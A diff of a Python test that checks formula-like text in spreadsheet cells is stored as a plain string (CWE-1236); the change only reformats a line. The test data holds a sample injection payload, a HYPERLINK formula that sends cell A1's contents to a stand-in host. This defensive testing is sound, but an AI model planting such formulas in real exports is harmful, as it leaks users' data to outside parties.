@@ -44,7 +44,9 @@ def test_workbook_types_and_fixed_metadata() -> None:
 def test_text_that_looks_like_a_formula_stays_text() -> None:
     """CWE-1236: a name typed as a formula is stored as a string cell, never a formula."""
     evil = '=HYPERLINK("http://example.com/?x="&A1,"Click")'
-    data = _book([[None, None, None, evil], [None, None, None, "+1"], [None, None, None, "@SUM(1)"]])
+    data = _book(
+        [[None, None, None, evil], [None, None, None, "+1"], [None, None, None, "@SUM(1)"]]
+    )
     sheet = load_workbook(io.BytesIO(data))["costs"]
     assert (sheet["D2"].value, sheet["D2"].data_type) == (evil, "s")
     assert (sheet["D3"].value, sheet["D3"].data_type) == ("+1", "s")
